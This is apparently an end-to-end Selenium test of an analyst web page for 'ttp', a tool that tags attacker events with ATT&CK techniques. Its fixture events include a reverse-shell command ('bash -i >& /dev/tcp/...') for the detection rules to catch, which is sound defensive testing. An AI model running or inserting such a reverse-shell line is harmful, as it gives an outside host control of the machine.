"""End-to-end test of ttp's analyst page in a real browser.

Run by tests/web_page.rs with the venv's Python (selenium), in each browser
of `--browsers`: Debian's headless Chromium (chromedriver) and Firefox ESR
(geckodriver). It drives the real binary:

1. `ttp run --serve 127.0.0.1:0` with a small rule set, fed known events on
   its stdin, writing a real SQLite file;
2. the page: the matrix's counts (tags, then distinct attackers), a
   sub-technique expanded, a click that opens the right tags, a rule's
   text, a new tag appearing live, a rule disabled from the page that stops
   tagging in the running `ttp run` within a second, the page weight;
3. a 100,000-tag database made by `ttp tag`, served by `ttp serve`: the
   time to the first render of the matrix, measured in the browser.

Each check that fails saves a screenshot under the screenshot directory
(one folder per browser). Prints one `page-metrics: {json}` line (figures
per browser); exits non-zero on any failure.
"""

import argparse
import json
import os
import re
import sqlite3
import subprocess
import sys
import threading
import time
import traceback

from selenium import webdriver
from selenium.common.exceptions import NoSuchElementException, StaleElementReferenceException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.firefox.service import Service as FirefoxService
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import WebDriverWait

RULES = {
    "brute.yaml": """rule_id: UI-BRUTE
rule_version: 1
name: failed login
applies_to: [auth_attempt]
match: {all: [{field: result, equals: fail}]}
emits: [{tactic: TA0006, technique_id: T1110, confidence: 0.8}]
""",
    "shell.yaml": """rule_id: UI-SHELL
rule_version: 1
name: interactive shell
applies_to: [command]
match: {all: [{field: command_text, contains: "bash -i"}]}
emits: [{tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.7}]
""",
    "mark.yaml": """rule_id: UI-MARK
rule_version: 1
name: probe marker
applies_to: [command]
match: {all: [{field: command_text, contains: probe}]}
emits: [{tactic: TA0007, technique_id: T1082, confidence: 0.5}]
""",
}


def failure(source_id, attacker):
    return {"source_kind": "auth_attempt", "source_id": source_id, "attacker_uuid": attacker,
            "payload": {"username": "root", "service": "ssh", "result": "fail"}}


def command(source_id, attacker, text):
    return {"source_kind": "command", "source_id": source_id, "attacker_uuid": attacker,
            "session_id": "s1", "payload": {"command_text": text}}


class Failed(Exception):
    pass


def start_browser(args, browser):
    if browser == "firefox":
        options = webdriver.FirefoxOptions()
        options.binary_location = args.firefox
        options.add_argument("-headless")
        options.add_argument("--width=1440")
        options.add_argument("--height=900")
        return webdriver.Firefox(service=FirefoxService(args.geckodriver), options=options)
    options = webdriver.ChromeOptions()
    options.binary_location = args.chromium
    for a in ["--headless=new", "--no-sandbox", "--disable-dev-shm-usage",
              "--window-size=1440,900", "--disable-gpu", "--no-first-run"]:
        options.add_argument(a)
    return webdriver.Chrome(service=Service(args.chromedriver), options=options)


class Test:
    def __init__(self, args, browser):
        self.args = args
        self.browser = browser
        self.metrics = {}
        self.procs = []
        self.shots = os.path.join(args.screenshots, browser)
        os.makedirs(self.shots, exist_ok=True)
        self.driver = start_browser(args, browser)
        self.driver.set_page_load_timeout(30)

    # ---- processes ----------------------------------------------------------

    def spawn(self, argv, stdin=False):
        """Starts ttp; returns (process, port) once it logs its address."""
        proc = subprocess.Popen([self.args.ttp] + argv, stdin=subprocess.PIPE if stdin else subprocess.DEVNULL,
                                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
                                env={**os.environ, "TTP_LOG": "info", "NO_COLOR": "1"})
        self.procs.append(proc)
        found = {}
        log = []
        ready = threading.Event()

        def read():
            for line in proc.stderr:
                log.append(line)
                m = re.search(r"http://127\.0\.0\.1:(\d+)", line)
                if m and "port" not in found:
                    found["port"] = int(m.group(1))
                    ready.set()

        threading.Thread(target=read, daemon=True).start()
        if not ready.wait(60):
            raise Failed("ttp did not start: " + "".join(log))
        proc.log = log
        return proc, found["port"]

    def feed(self, proc, events):
        for e in events:
            proc.stdin.write(json.dumps(e) + "\n")
        proc.stdin.flush()

    def close(self):
        for p in self.procs:
            if p.poll() is None:
                p.terminate()
                try:
                    p.wait(10)
                except subprocess.TimeoutExpired:
                    p.kill()
        self.driver.quit()

    # ---- helpers --------------------------------------------------------------

    def check(self, name, ok, message):
        if not ok:
            path = os.path.join(self.shots, f"{name}.png")
            self.driver.save_screenshot(path)
            raise Failed(f"{name}: {message} (screenshot: {path})")

    def wait(self, name, predicate, message, timeout=15):
        try:
            # The page re-renders under live updates: an element read
            # while it was replaced is read again on the next poll.
            return WebDriverWait(self.driver, timeout, poll_frequency=0.05,
                                 ignored_exceptions=[StaleElementReferenceException,
                                                     NoSuchElementException]).until(lambda d: predicate())
        except Exception:
            self.check(name, False, message)

    def click(self, name, by, selector, message, timeout=15):
        # Found and clicked in one attempt, again if a live update replaced
        # the element in between (the click is not dispatched then).
        def attempt():
            self.driver.find_element(by, selector).click()
            return True
        self.wait(name, attempt, message, timeout)

    def text(self, by, selector, timeout=15):
        # An element's text, read again if a live update replaced it.
        got = []
        self.wait("text", lambda: got.append(self.driver.find_element(by, selector).text) or True,
                  f"no element {selector}", timeout)
        return got[-1]

    def count(self, technique):
        # Read in one script: the page re-renders under live updates.
        n = self.driver.execute_script(
            "const c = document.querySelector(`button.cell[data-technique='${arguments[0]}']`);"
            "return c ? c.dataset.count : null;", technique)
        return int(n) if n is not None else None

    def open(self, url):
        self.driver.get(url)
        self.wait("ready", lambda: self.driver.execute_script("return document.body.dataset.ready === '1'"),
                  f"the page at {url} never rendered")

    @staticmethod
    def db_rows(db, sql, args=()):
        conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
        try:
            return conn.execute(sql, args).fetchall()
        finally:
            conn.close()

    def wait_db(self, name, db, sql, want, timeout=20):
        deadline = time.time() + timeout
        got = None
        while time.time() < deadline:
            try:
                got = self.db_rows(db, sql)[0][0]
            except sqlite3.Error:
                got = None
            if got == want:
                return
            time.sleep(0.02)
        raise Failed(f"{name}: {sql} gave {got!r}, expected {want!r}")

    # ---- the live daemon ------------------------------------------------------

    def daemon(self):
        work = os.path.join(self.args.work, self.browser)
        os.makedirs(work, exist_ok=True)
        rules = os.path.join(work, "rules")
        os.makedirs(rules, exist_ok=True)
        for name, text in RULES.items():
            with open(os.path.join(rules, name), "w") as f:
                f.write(text)
        db = os.path.join(work, "live.db")
        proc, port = self.spawn(["run", "--rules", rules, "--db", db, "--events", "-",
                                 "--serve", "127.0.0.1:0"], stdin=True)
        events = [failure(f"f{i}", "att-1") for i in range(5)]
        events += [failure(f"g{i}", "att-2") for i in range(2)]
        events += [command(f"c{i}", "att-1", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1") for i in range(3)]
        self.feed(proc, events)
        self.wait_db("stored", db, "SELECT count(*) FROM ttp_tag", 10)
        url = f"http://127.0.0.1:{port}/"
        self.open(url)
        d = self.driver

        # Page weight: everything the first load transferred.
        weight = d.execute_script("""
            const nav = performance.getEntriesByType('navigation')[0];
            const res = performance.getEntriesByType('resource');
            return (nav ? nav.transferSize : 0) + res.reduce((s, r) => s + (r.transferSize || 0), 0);""")
        self.metrics["page_weight_bytes"] = weight
        self.check("weight", 0 < weight < 300_000, f"the first load transferred {weight} bytes (budget 300 KB)")

        # The matrix's counts: tags, then distinct attackers.
        self.check("matrix-tags", self.count("T1110") == 7, f"T1110 shows {self.count('T1110')}, expected 7 tags")
        self.check("matrix-parent", self.count("T1059") == 3, f"T1059 shows {self.count('T1059')}, expected 3 tags")
        self.click("metric-attackers", By.CSS_SELECTOR, "input[name=metric][value=attackers]", "no metric toggle")
        self.wait("matrix-attackers", lambda: self.count("T1110") == 2, "T1110 does not show 2 distinct attackers")
        self.click("metric-tags", By.CSS_SELECTOR, "input[name=metric][value=tags]", "no metric toggle")
        self.wait("matrix-back", lambda: self.count("T1110") == 7, "T1110 does not show 7 tags again")
        # The sub-technique, under its parent once expanded (by keyboard).
        self.wait("expand", lambda: d.find_element(
            By.CSS_SELECTOR, "button.expand[aria-controls='subs-TA0002-T1059']").send_keys(Keys.ENTER) or True,
            "no expand button for T1059")
        self.wait("subtechnique", lambda: self.count("T1059.004") == 3
                  and d.find_element(By.ID, "subs-TA0002-T1059").is_displayed(),
                  "T1059.004 is not shown with 3 tags under T1059")

        # A click opens the cell's tags.
        self.click("cell", By.CSS_SELECTOR, "button.cell[data-technique='T1110']", "no T1110 cell")
        self.wait("drill", lambda: len(d.find_elements(By.CSS_SELECTOR, "#drill li.tag")) == 7,
                  "the drill-down does not list the 7 tags of T1110")
        listed = {e.get_attribute("data-rule") for e in d.find_elements(By.CSS_SELECTOR, "#drill li.tag")}
        self.check("drill-rules", listed == {"UI-BRUTE"}, f"the drill-down lists tags of {listed}")
        title = self.text(By.ID, "drill-title")
        self.check("drill-title", "7 tags" in title and "Credential Access" in title, f"drill title {title!r}")
        # Its rule text, by the tag's rule SHA-256.
        self.click("rule-link", By.CSS_SELECTOR, "#drill li.tag button.rule-link", "no rule link in the drill-down")
        self.wait("rule-text", lambda: "rule_id: UI-BRUTE" in d.find_element(By.ID, "rule-text").text,
                  "the rule dialog does not show the rule's text")
        d.find_element(By.CSS_SELECTOR, "#rule-dialog form button").click()

        # Live: a new tag appears without a reload.
        d.execute_script("window.notReloaded = true")
        self.feed(proc, [failure("live-1", "att-3")])
        self.wait("live", lambda: self.count("T1110") == 8 and d.execute_script("return window.notReloaded === true"),
                  "the new tag did not appear live (T1110 should show 8)")
        self.wait("live-drill", lambda: len(d.find_elements(By.CSS_SELECTOR, "#drill li.tag")) == 8,
                  "the open drill-down did not list the new tag")

        # Rules view: disable UI-BRUTE from the page.
        d.get(url + "#/rules")
        self.wait("rules", lambda: d.find_elements(By.CSS_SELECTOR, "tr[data-rule='UI-BRUTE'] button.disable"),
                  "the rules view has no Disable button for UI-BRUTE")
        row = self.text(By.CSS_SELECTOR, "tr[data-rule='UI-BRUTE']")
        self.check("rules-count", "8" in row, f"UI-BRUTE's row does not show its 8 tags: {row!r}")
        self.click("disable", By.CSS_SELECTOR, "tr[data-rule='UI-BRUTE'] button.disable", "no Disable button")
        d.find_element(By.CSS_SELECTOR, "#state-form input[name=reason]").send_keys("noisy in the lab")
        d.find_element(By.ID, "state-apply").click()
        self.wait("disabled", lambda: "disabled" in d.find_element(By.CSS_SELECTOR, "tr[data-rule='UI-BRUTE']").text,
                  "the rules view does not show UI-BRUTE disabled")
        disabled_at = time.time()
        stored = self.db_rows(db, "SELECT state, reason FROM ttp_rule_state WHERE rule_id = 'UI-BRUTE'")
        self.check("state-stored", stored == [("disabled", "noisy in the lab")], f"ttp_rule_state holds {stored}")
        # Within a second the running daemon stops tagging with it.
        time.sleep(max(0.0, 1.0 - (time.time() - disabled_at)))
        self.feed(proc, [failure("after-disable", "att-4"), command("probe-1", "att-4", "probe")])
        self.wait_db("probe", db, "SELECT count(*) FROM ttp_tag WHERE source_id = 'probe-1'", 1)
        after = self.db_rows(db, "SELECT count(*) FROM ttp_tag WHERE source_id = 'after-disable'")[0][0]
        self.check("stops-tagging", after == 0, "UI-BRUTE still tagged an event a second after it was disabled")
        self.wait("audit", lambda: any("noisy in the lab" in e.text or "disabled" in e.text
                                       for e in d.find_elements(By.CSS_SELECTOR, "#audit tbody tr")),
                  "the audit log does not show the state change")
        # And enabled again from the page.
        self.click("enable", By.CSS_SELECTOR, "tr[data-rule='UI-BRUTE'] button.enable", "no Enable button")
        self.wait("enabled", lambda: "enabled" in d.find_element(By.CSS_SELECTOR, "tr[data-rule='UI-BRUTE']").text,
                  "UI-BRUTE is not shown enabled again")

        # Clipped from the page: the daemon's next tag of UI-SHELL is capped.
        self.click("clip", By.CSS_SELECTOR, "tr[data-rule='UI-SHELL'] button.clip", "no Clip button")
        d.find_element(By.CSS_SELECTOR, "#state-form input[name=confidence_max]").send_keys("0.5")
        d.find_element(By.ID, "state-apply").click()
        self.wait("clipped", lambda: "clipped to 0.5" in d.find_element(By.CSS_SELECTOR, "tr[data-rule='UI-SHELL']").text,
                  "the rules view does not show UI-SHELL clipped to 0.5")
        time.sleep(1.0)
        self.feed(proc, [command("clipped-1", "att-5", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")])
        self.wait_db("clipped-tag", db, "SELECT count(*) FROM ttp_tag WHERE source_id = 'clipped-1'", 1)
        conf = self.db_rows(db, "SELECT confidence FROM ttp_tag WHERE source_id = 'clipped-1'")[0][0]
        self.check("clip-applied", conf == 0.5, f"UI-SHELL's tag after the clip has confidence {conf}, not 0.5")

        # A broken edit, picked up by the running daemon's reload, appears
        # live in the rules view with its file:line:col.
        d.execute_script("window.notReloaded = true")
        with open(os.path.join(rules, "shell.yaml"), "w") as f:
            f.write(RULES["shell.yaml"].replace("confidence: 0.7", "confidence: 7"))
        self.wait("load-error", lambda: re.search(
            r"shell\.yaml:\d+:\d+", d.find_element(By.CSS_SELECTOR, "tr[data-rule='UI-SHELL']").text)
            and d.execute_script("return window.notReloaded === true"),
            "the rejected edit of shell.yaml is not shown live with its file:line:col", timeout=20)

        # Attacker view: the timeline of att-1.
        d.get(url + "#/attacker/att-1")
        self.wait("attacker", lambda: len(d.find_elements(By.CSS_SELECTOR, "#timeline tbody tr")) == 2,
                  "att-1's timeline does not list its 2 techniques")

        # Keyboard: the cells are reachable with Tab.
        d.get(url)
        self.wait("ready-again", lambda: d.execute_script("return document.body.dataset.ready === '1'"), "no render")
        tabbable = d.execute_script("""
            return [...document.querySelectorAll('button.cell')].every(b => b.tabIndex === 0 && b.getAttribute('aria-label'));""")
        self.check("keyboard", tabbable, "a matrix cell is not focusable or has no text alternative")

        # Filters: one attacker's cells, kept in the URL; cleared again.
        d.find_element(By.CSS_SELECTOR, "#filters input[name=attacker]").send_keys("att-2")
        d.find_element(By.CSS_SELECTOR, "#filters button[type=submit]").click()
        self.wait("filter", lambda: self.count("T1110") == 2 and self.count("T1059") is None
                  and "attacker=att-2" in d.current_url,
                  "the attacker filter does not narrow the matrix to att-2's 2 tags")
        d.find_element(By.CSS_SELECTOR, "#filters button[type=reset]").click()
        self.wait("filter-cleared", lambda: self.count("T1110") == 8, "clearing the filters does not show the 8 tags again")
        proc.stdin.close()

    # ---- 100k tags ------------------------------------------------------------

    def big(self, db):
        """Makes the big database once (None: make it) and measures the first
        render on it; returns its path."""
        n = self.args.big_tags
        if db is None:
            db = self.make_big(n)
        proc, port = self.spawn(["serve", "--db", db, "--listen", "127.0.0.1:0"])
        renders = []
        for _ in range(3):
            self.open(f"http://127.0.0.1:{port}/")
            renders.append(self.driver.execute_script("return window.ttpFirstRender"))
            # Every third event (i % 3 == 1) is a failed login.
            self.check("big-counts", self.count("T1110") == (n + 1) // 3,
                       f"T1110 shows {self.count('T1110')} on the big database, not {(n + 1) // 3}")
        # The drill-down pages through a big cell, newest first.
        self.click("big-cell", By.CSS_SELECTOR, "button.cell[data-technique='T1110']", "no T1110 cell")
        pager = lambda: self.driver.find_element(By.CSS_SELECTOR, "#drill .pager span").text
        total = f"{(n + 1) // 3:,}"
        self.wait("page-1", lambda: len(self.driver.find_elements(By.CSS_SELECTOR, "#drill li.tag")) == min(25, (n + 1) // 3)
                  and pager().startswith("1–"), "the drill-down's first page is not listed")
        if (n + 1) // 3 > 25:
            self.click("older", By.XPATH, "//div[@class='pager']/button[text()='Older']", "no Older button")
            self.wait("page-2", lambda: pager().startswith("26–50 of " + total),
                      f"the drill-down's second page is not 26–50 of {total}")
        self.metrics["big_tags"] = n
        self.metrics["first_render_ms"] = [round(r) for r in renders]
        return db

    def make_big(self, n):
        work = self.args.work
        # The rule set as written (the live test broke one of its copies).
        rules = os.path.join(work, "big-rules")
        os.makedirs(rules, exist_ok=True)
        for name, text in RULES.items():
            with open(os.path.join(rules, name), "w") as f:
                f.write(text)
        db = os.path.join(work, "big.db")
        events = os.path.join(work, "big.jsonl")
        with open(events, "w") as f:
            for i in range(n):
                attacker = f"att-{i % 500}"
                if i % 3 == 0:
                    e = command(f"b{i}", attacker, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
                elif i % 3 == 1:
                    e = failure(f"b{i}", attacker)
                else:
                    e = command(f"b{i}", attacker, f"probe {i}")
                f.write(json.dumps(e) + "\n")
        started = time.time()
        subprocess.run([self.args.ttp, "tag", "--rules", rules, "--db", db, "--events", events],
                       check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.metrics["big_tagging_seconds"] = round(time.time() - started, 1)
        stored = self.db_rows(db, "SELECT count(*) FROM ttp_tag")[0][0]
        self.check("big-db", stored == n, f"the big database holds {stored} tags, not {n}")
        return db


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--ttp", required=True)
    p.add_argument("--work", required=True)
    p.add_argument("--screenshots", required=True)
    p.add_argument("--browsers", default="chromium", help="comma-separated: chromium, firefox")
    p.add_argument("--chromium", default="/usr/bin/chromium")
    p.add_argument("--chromedriver", default="/usr/bin/chromedriver")
    p.add_argument("--firefox", default="/usr/bin/firefox-esr")
    p.add_argument("--geckodriver", default="geckodriver")
    p.add_argument("--big-tags", type=int, default=100_000)
    args = p.parse_args()
    metrics = {}
    big_db = None
    failed = False
    for browser in args.browsers.split(","):
        test = None
        try:
            test = Test(args, browser)
            test.daemon()
            big_db = test.big(big_db)
        except Exception as e:  # a check, or selenium itself
            failed = True
            if test is not None and not isinstance(e, Failed):
                try:
                    path = os.path.join(test.shots, "unexpected.png")
                    test.driver.save_screenshot(path)
                    # Where in this script: the driver's own stack says nothing.
                    here = [f"line {f.lineno} ({f.line})" for f in traceback.extract_tb(e.__traceback__)
                            if f.filename == __file__]
                    e = Failed(f"{type(e).__name__} at {' <- '.join(reversed(here))}: {e} (screenshot: {path})")
                except Exception:
                    pass
            print(f"FAILED in {browser}: {e}", file=sys.stderr)
            for proc in (test.procs if test else []):
                if getattr(proc, "log", None):
                    print("".join(proc.log[-40:]), file=sys.stderr)
        finally:
            if test is not None:
                metrics[browser] = test.metrics
                test.close()
    print("page-metrics: " + json.dumps(metrics))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
